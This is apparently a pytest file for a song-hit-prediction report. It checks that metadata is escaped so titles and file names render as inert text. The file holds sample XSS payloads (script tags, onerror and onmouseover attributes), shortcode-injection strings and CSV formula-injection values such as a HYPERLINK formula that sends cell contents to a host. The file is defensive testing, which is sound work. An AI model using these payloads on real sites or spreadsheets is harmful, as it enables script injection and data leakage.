"""No title, artist, genre or file name does anything on a page but stand there."""

import copy
import io
import json
import re
import subprocess
from xml.etree import ElementTree

import altair as alt
import pandas as pd
import pypandoc
import pytest
import yaml
from bs4 import BeautifulSoup
from conftest import REPOSITORY

from hitpred.cache.store import StoredResult
from hitpred.cache.workspace import Workspace
from hitpred.dataset.source import DataSource
from hitpred.elements import draw
from hitpred.elements.escape import escaped, escaped_html, one_line
from hitpred.elements.figure import NARROW, WIDE, Figure
from hitpred.elements.fragments import figure_fragment, table_fragment
from hitpred.elements.table import Table
from hitpred.elements.variables import variables
from hitpred.site.derive import _notice, _variables
from hitpred.studies.explanation import figures as explanation
from hitpred.studies.explanation import tables as explanation_tables
from hitpred.studies.hit_definition import figures as hit_definition
from hitpred.studies.registry import STUDIES

ATTACKS = (
    "x\n```\n\n[x](http:/autofocus/onfocus=alert//)\n\n```{=html}\n",
    "\n\n:::\n\n<script>alert(1)</script>\n\n::: {.x}\n",
    "``````\n~~~~~~\n</div></figure><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x=\'',
    "{{< var x >}} {{< include x.md >}} {{{< x >}}}",
    "a\u2028b\u2029c\x85d\x0be\x0cf\r\ng",
    "\x00\x01\x08\x1b[31m\x7f\x9f\ufeff\ufdd0\ufdd1\uffff",
    "\u202ereversed\u2066",
    "1. one",
    "i. one",
    "::: x",
    ": definition",
    "- item | cell | $x$ [@cite] @fig-x ^a^ ~b~ *c* _d_ # e ![f](g) <h@i.j>",
    "-->]]></svg></style></title></textarea>",
    "%0a&#10;&NewLine;&lt;b&gt;",
)
each_attack = pytest.mark.parametrize("text", ATTACKS, ids=range(len(ATTACKS)))


def shown(markdown: str) -> BeautifulSoup:
    """Return Markdown as a page shows it; its title is given as the metadata's are."""
    html = subprocess.run(
        [pypandoc.get_pandoc_path(), "--from=markdown", "--to=html5", "--wrap=preserve"],
        input=markdown,
        capture_output=True,
        encoding="utf-8",
        check=True,
    ).stdout
    return BeautifulSoup(html, "html.parser")


def words(text: str) -> str:
    return " ".join(one_line(text).split())


def assert_harmless(page: BeautifulSoup) -> None:
    assert not page.select(
        "script:not([src^='scripts/']), style, textarea, title, iframe, pre, code"
    )
    for element in page.find_all(True):
        assert not [name for name in element.attrs if name.startswith("on") or name == "autofocus"]
    assert {image["src"].split("/")[0] for image in page.select("img")} <= {"cache"}
    links = {link["href"].removeprefix("/report/") for link in page.select("a")}
    assert {re.split("[/-]", link)[0] for link in links} <= {"cache", "#fig", "proofs"}


@each_attack
def test_it_is_one_line_of_characters_that_can_be_shown(text):
    for safe in (escaped(text), escaped_html(text), one_line(text)):
        assert safe.isprintable()
        assert safe.encode("utf-8")


@each_attack
def test_in_markdown_it_is_the_text_alone(text):
    page = shown(f"{escaped(text)}\n\nx {escaped(text)}")
    assert [" ".join(p.get_text().split()) for p in page.select("p")] == [
        words(text),
        f"x {words(text)}",
    ]
    assert {tag.name for tag in page.find_all(True)} == {"p"}


@each_attack
def test_in_html_it_is_the_text_alone(text):
    html = f'<p title="{escaped_html(text)}">{escaped_html(text)}</p>'
    (paragraph,) = BeautifulSoup(html, "html.parser").find_all(True)
    assert (words(paragraph["title"]), words(paragraph.get_text())) == (words(text), words(text))


@each_attack
def test_in_a_figure_it_is_text_in_its_words_and_in_its_picture(text):
    data = pd.DataFrame({"song": [text], "x": [1]})

    def drawn(table, frame):
        title = alt.TitleParams(text, limit=10_000)
        return alt.Chart(table, title=title).mark_bar().encode(x="x:Q", y="song:N")

    figure = Figure("a", text, "Caption.", text, data, drawn)
    pictures = {frame: draw.svg(figure, frame) for frame in (WIDE, NARROW)}
    for picture in pictures.values():
        assert words("".join(ElementTree.fromstring(picture).itertext())).count(words(text)[:9])
    fragment = figure_fragment(figure, "leakage", pictures[WIDE], pictures[NARROW])
    assert "{{<" not in fragment
    page = shown(fragment)
    assert_harmless(page)
    assert words(page.select_one(".hp-figure-title").get_text()).replace("’", "'") == words(text)
    assert [words(image["alt"]) for image in page.select("picture img")] == [words(text)] * 2
    assert page.select("[id=fig-a] > p")[-1].get_text() == "Caption."


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "＝"])
def test_in_a_download_it_is_no_formula(start):
    title = f'{start}HYPERLINK("http://x/?"&A1)'
    cells = {title: "'" + title, "Don't = that": "Don't = that", "+0.7": "+0.7", "": ""}
    data = pd.DataFrame(
        {"title": list(cells), "loudness": [-7.5, 0.25, -1.0, 2], "rise": [-3, 0, 3, 4]}
    )
    download = pd.read_csv(io.StringIO(draw.table(data), newline=""), keep_default_na=False)
    assert download["title"].to_list() == list(cells.values())
    assert download["loudness"].to_list() == [-7.5, 0.25, -1.0, 2]
    assert download["rise"].to_list() == [-3, 0, 3, 4]


@each_attack
def test_in_a_table_it_is_one_cell(text):
    fragment = table_fragment(Table("a", "Caption.", ("song", text), [(text, "x")]))
    assert "{{<" not in fragment
    page = shown(fragment)
    assert_harmless(page)
    assert words(page.select_one("tbody th").get_text()) == words(text)
    assert len(page.select("thead th")) == len(page.select("tbody :is(th, td)")) == 2


@each_attack
def test_in_the_notice_a_file_name_is_text(text, tmp_path):
    source = DataSource(text, "digest", "digest", None, published=False)
    notice = _notice(Workspace(tmp_path, tmp_path, source), ())
    page = shown(notice)
    assert_harmless(page)
    assert words(text) in words(page.get_text())
    assert len(page.select("div.notice > p")) == 1


def test_in_variables_and_provenance_it_is_text():
    tree = yaml.safe_load(
        yaml.safe_dump(variables({"song": {str(n): t for n, t in enumerate(ATTACKS)}}))
    )
    for number, text in enumerate(ATTACKS):
        value = tree["song"][str(number)]
        assert value == escaped(text)
    attacked = ATTACKS[0]
    stored = {
        study.name: StoredResult(
            study.name,
            {"dataset": attacked, "settings": {"hit": {"threshold": attacked}}},
            attacked,
            {"scikit-learn": attacked, "python": attacked},
            1.0,
            {},
        )
        for study in STUDIES
    }
    tree = yaml.safe_load(_variables(stored, {}, ()))
    assert tree["data"]["sha256"] == tree["settings"]["hit"]["threshold"] == escaped(attacked)


@pytest.mark.parametrize("text", ATTACKS[:3], ids=range(3))
@pytest.mark.parametrize(
    ("study", "module", "fields"),
    [
        ("explanation", explanation, {"title", "artists"}),
        ("hit_definition", hit_definition, {"name"}),
    ],
)
def test_songs_and_genres_of_the_results_are_text_in_every_figure(study, module, fields, text):
    stored = json.loads((REPOSITORY / f"report/cache/results/{study}.json").read_text("utf-8"))
    results = copy.deepcopy(stored["results"])
    songs = results["examples"] if study == "explanation" else results["genres"]["by_genre"]
    for number, song in enumerate(songs):
        song.update(dict.fromkeys(fields, f"{number} {text}"))
    made = (
        [module.examples(results, "loved_hit")]
        if study == "explanation"
        else [module.genres(results)]
    )
    for figure in made:
        assert re.sub(r"\s", "", text)[:3] in re.sub(r"\s", "", figure.alt)
        page = shown(figure_fragment(figure, "x", draw.svg(figure, WIDE), draw.svg(figure, NARROW)))
        assert_harmless(page)
        assert len(page.select("picture > img")) == 2
    if study == "explanation":
        page = shown(table_fragment(explanation_tables.examples(results)))
        assert_harmless(page)
        assert len(page.select("tbody tr")) == len(songs)
